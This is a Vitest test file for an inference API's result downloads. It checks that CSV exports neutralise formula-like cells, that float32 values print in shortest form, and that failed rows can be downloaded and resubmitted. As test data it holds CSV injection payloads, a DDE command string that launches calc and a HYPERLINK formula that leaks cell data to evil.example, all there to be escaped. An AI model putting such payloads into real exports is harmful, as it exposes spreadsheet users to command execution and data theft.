import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKey } from '../../src/auth/tenants.js';
import { fixedWeights, linearRegression, mlpClassifier } from '../fixtures/onnxBuilder.js';
import { client, startInProcessApi } from '../helpers/api.js';
import { createTestEnv, type TestEnv } from '../helpers/env.js';
import { startWorkerInProcess, type InProcessWorker } from '../helpers/worker.js';
import { readCsv } from '../pipeline/helpers.js';

// Issue 12, items 3, 12 and 17, through HTTP with a real worker: CSV downloads neutralise
// formula-like cells (raw=true does not), float32 regression values print shortest everywhere,
// and ?only=errors gives failed rows back with their inputs, ready to fix and resubmit.
let env: TestEnv;
let api: Awaited<ReturnType<typeof startInProcessApi>>;
let worker: InProcessWorker;
let c: ReturnType<typeof client>;

beforeAll(async () => {
  env = await createTestEnv({ CHUNK_ROWS: '3', INFERENCE_THREADS: '1' });
  api = await startInProcessApi(env.config);
  worker = await startWorkerInProcess(env.env);
  const { key } = await createKey(env.pool, 'acme');
  c = client(api.url, key);
  // y = a: a float32 output, so 3.12 comes back as the float32 nearest it.
  const reg = await c.registerModel('ident', linearRegression([1, 0], 0), { columns: ['a', 'b'], task: 'regression', passthrough: ['id'] });
  expect(reg.status, await reg.text()).toBe(201);
  const labels = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1)', 'plain'];
  const cls = await c.registerModel('evil-labels', mlpClassifier([{ weights: fixedWeights(3, 4), bias: [0, 0, 0] }], { softmax: true }), { columns: ['f1', 'f2', 'f3', 'f4'], task: 'classification', labels });
  expect(cls.status, await cls.text()).toBe(201);
}, 60_000);
afterAll(async () => {
  await worker?.close();
  await api?.close();
  await env?.close();
});

async function submit(model: string, csv: string, query = '') {
  const res = await c.postCsv(`/v1/jobs?model=${encodeURIComponent(model)}${query}`, csv);
  const body = await res.json();
  expect(res.status, JSON.stringify(body)).toBe(202);
  return c.waitForJob(body.id);
}
const text = async (path: string) => {
  const res = await c.get(path);
  const body = await res.text();
  expect(res.status, body).toBe(200);
  return body;
};

describe('CSV formula injection (item 3)', () => {
  const ids = ["=cmd|' /C calc'!A0", '+1+1', '-2+3+cmd', '@SUM(A1)', '\tx', '\rcr', '-3.5', '+2', '1e-7', 'plain'];
  const csv = 'id,a,b\n' + ids.map((id, i) => `"${id.replace(/"/g, '""')}",${i},0`).join('\n') + '\n';

  it("prefixes passthrough cells starting with = + - @ tab or CR with ' and quotes them; plain numbers stay as they are", async () => {
    const job = await submit('ident', csv);
    expect(job.status).toBe('completed');
    const body = await text(`/v1/jobs/${job.id}/results`);
    expect(body).toContain(`"'=cmd|' /C calc'!A0"`);
    const got = readCsv(body).map((r) => r.id);
    expect(got).toEqual(["'=cmd|' /C calc'!A0", "'+1+1", "'-2+3+cmd", "'@SUM(A1)", "'\tx", "'\rcr", '-3.5', '+2', '1e-7', 'plain']);
    // No cell of the file starts a formula: every line's cells, quoted or not.
    const formulas = readCsv(body).flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(v));
    expect(formulas).toEqual([]);
  });

  it('raw=true gives the cells as they are; NDJSON and JSON are never escaped', async () => {
    const job = await submit('ident', csv);
    expect(readCsv(await text(`/v1/jobs/${job.id}/results?raw=true`)).map((r) => r.id)).toEqual(ids);
    expect((await text(`/v1/jobs/${job.id}/results?raw=true`)).includes(`"\rcr"`)).toBe(true);
    const nd = (await text(`/v1/jobs/${job.id}/results?format=ndjson`)).trim().split('\n').map((l) => JSON.parse(l));
    expect(nd.map((r) => r.passthrough.id)).toEqual(ids);
    const page = await (await c.get(`/v1/jobs/${job.id}/results?format=json`)).json();
    expect(page.data.map((r: { passthrough: { id: string } }) => r.passthrough.id)).toEqual(ids);
    expect((await c.get(`/v1/jobs/${job.id}/results?raw=yes`)).status).toBe(400);
  });

  it('class labels from the model (prediction and probability columns) are neutralised too', async () => {
    const job = await submit('evil-labels', 'f1,f2,f3,f4\n1,2,3,4\n-1,0,5,2\n');
    const body = await text(`/v1/jobs/${job.id}/results`);
    const rows = readCsv(body);
    for (const r of rows) expect(["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'@SUM(1)", 'plain']).toContain(r.prediction);
    expect(body.split('\n')[0]).toBe('row,prediction,probability_=HYPERLINK(""http://evil.example/?""&A1),probability_@SUM(1),probability_plain,error'.replace('probability_=HYPERLINK(""http://evil.example/?""&A1)', '"probability_=HYPERLINK(""http://evil.example/?""&A1)"'));
    const raw = readCsv(await text(`/v1/jobs/${job.id}/results?raw=true`));
    for (const r of raw) expect(['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1)', 'plain']).toContain(r.prediction);
  });
});

describe('float32 regression values print shortest (item 17)', () => {
  it('CSV, NDJSON, JSON pages and single predictions show 3.12, not 3.119999885559082', async () => {
    const job = await submit('ident', 'id,a,b\nx,3.12,0\ny,0.1,0\nz,-7.3,0\n');
    expect(readCsv(await text(`/v1/jobs/${job.id}/results`)).map((r) => r.prediction)).toEqual(['3.12', '0.1', '-7.3']);
    const nd = await text(`/v1/jobs/${job.id}/results?format=ndjson`);
    expect(nd).not.toContain('3.119999885559082');
    expect(nd.trim().split('\n').map((l) => JSON.parse(l).prediction)).toEqual([3.12, 0.1, -7.3]);
    const page = await (await c.get(`/v1/jobs/${job.id}/results?format=json`)).json();
    expect(page.data.map((r: { prediction: number }) => r.prediction)).toEqual([3.12, 0.1, -7.3]);
    const res = await c.postJson('/v1/predictions', { model: 'ident', inputs: [{ a: 3.12, b: 0, id: 'p' }], wait: 20 });
    const one = await res.json();
    expect(res.status, JSON.stringify(one)).toBe(200);
    expect(one.predictions[0].prediction).toBe(3.12);
  });
});

describe('errors-only download (item 12)', () => {
  // Rows 2, 4 and 6 fail: a text cell, a ragged row, a stray quote. Row 5 has a quoted passthrough.
  const lines = ['id,a,b', 'r1,1,0', 'r2,abc,0', 'r3,3,0', 'r4,4', '"r5, quoted",5,0', 'r6,6"x"y,0', 'r7,=1+1,0'];
  const csv = lines.join('\n') + '\n';

  it('only=errors CSV: the upload header after row and error, each failed row with its record as uploaded', async () => {
    const job = await submit('ident', csv);
    expect(job.rows).toMatchObject({ total: 7, failed: 4 });
    const raw = await text(`/v1/jobs/${job.id}/results?only=errors&raw=true`);
    const out = raw.trimEnd().split('\n');
    expect(out[0]).toBe('row,error,id,a,b');
    // With raw=true a CSV record comes back byte for byte after its row number and error.
    expect(out.slice(1).map((l) => l.slice(l.lastIndexOf(',r') + 1))).toEqual(['r2,abc,0', 'r4,4', 'r6,6"x"y,0', 'r7,=1+1,0']);
    const rows = readCsv(raw);
    expect(rows.map((r) => r.row)).toEqual(['2', '4', '6', '7']);
    for (const r of rows) expect(r.error).not.toBe('');
    // Escaped (the default): the cells, parsed and written again, a formula neutralised.
    const safe = readCsv(await text(`/v1/jobs/${job.id}/results?only=errors`));
    expect(safe.map((r) => [r.row, r.id, r.a])).toEqual([['2', 'r2', 'abc'], ['4', 'r4', '4'], ['6', 'r6,6"x"y,0', undefined], ['7', 'r7', "'=1+1"]]);
  });

  it('the errors file, fixed, resubmits as is', async () => {
    const job = await submit('ident', csv);
    const raw = await text(`/v1/jobs/${job.id}/results?only=errors&raw=true`);
    const again = await submit('ident', raw);
    expect(again.rows).toMatchObject({ total: 4, failed: 4 });
    const fixed = raw.replace('r2,abc,0', 'r2,2,0').replace('r4,4\n', 'r4,4,0\n').replace('6"x"y', '6').replace(',r7,=1+1,', ',r7,7,');
    const done = await submit('ident', fixed);
    expect(done.rows).toMatchObject({ total: 4, succeeded: 4, failed: 0 });
    expect(readCsv(await text(`/v1/jobs/${done.id}/results`)).map((r) => [r.id, r.prediction])).toEqual([['r2', '2'], ['r4', '4'], ['r6', '6'], ['r7', '7']]);
  });

  it('only=scored gives the others; NDJSON and JSON pages carry input; pages count kept rows', async () => {
    const job = await submit('ident', csv);
    expect(readCsv(await text(`/v1/jobs/${job.id}/results?only=scored`)).map((r) => r.id)).toEqual(['r1', 'r3', 'r5, quoted']);
    const nd = (await text(`/v1/jobs/${job.id}/results?format=ndjson&only=errors`)).trim().split('\n').map((l) => JSON.parse(l));
    expect(nd.map((r) => [r.row, r.input])).toEqual([[2, 'r2,abc,0'], [4, 'r4,4'], [6, 'r6,6"x"y,0'], [7, 'r7,=1+1,0']]);
    const p1 = await (await c.get(`/v1/jobs/${job.id}/results?format=json&only=errors&limit=3`)).json();
    expect(p1.data.map((r: { row: number }) => r.row)).toEqual([2, 4, 6]);
    const p2 = await (await c.get(`/v1/jobs/${job.id}/results?format=json&only=errors&limit=3&cursor=${p1.next_cursor}`)).json();
    expect(p2.data.map((r: { row: number; input: string }) => [r.row, r.input])).toEqual([[7, 'r7,=1+1,0']]);
    expect(p2.next_cursor).toBeNull();
    // The full download is unchanged: no input field.
    const all = await (await c.get(`/v1/jobs/${job.id}/results?format=json`)).json();
    expect(all.data[1]).not.toHaveProperty('input');
  });

  it("keeps the upload's delimiter, and an online job's JSON record", async () => {
    const job = await submit('ident', 'id;a;b\nq1;1,5;0\nq2;x;0\n', '&delimiter=%3B&decimal=%2C');
    expect(await text(`/v1/jobs/${job.id}/results?only=errors&raw=true`)).toMatch(/^row;error;id;a;b\n2;[^\n]*;q2;x;0\n$/);
    const res = await c.postJson('/v1/predictions', { model: 'ident', inputs: [{ a: 1, b: 0, id: 'ok' }, { a: 'nope', b: 0, id: 'bad' }], wait: 20 });
    const one = await res.json();
    expect(res.status, JSON.stringify(one)).toBe(200);
    const nd = (await text(`/v1/jobs/${one.id}/results?format=ndjson&only=errors`)).trim().split('\n').map((l) => JSON.parse(l));
    expect(nd.map((r) => [r.row, r.input])).toEqual([[2, { a: 'nope', b: 0, id: 'bad' }]]);
    const rows = readCsv(await text(`/v1/jobs/${one.id}/results?only=errors`));
    expect(rows.map((r) => [r.row, r.a, r.b, r.id])).toEqual([['2', 'nope', '0', 'bad']]);
  });
});
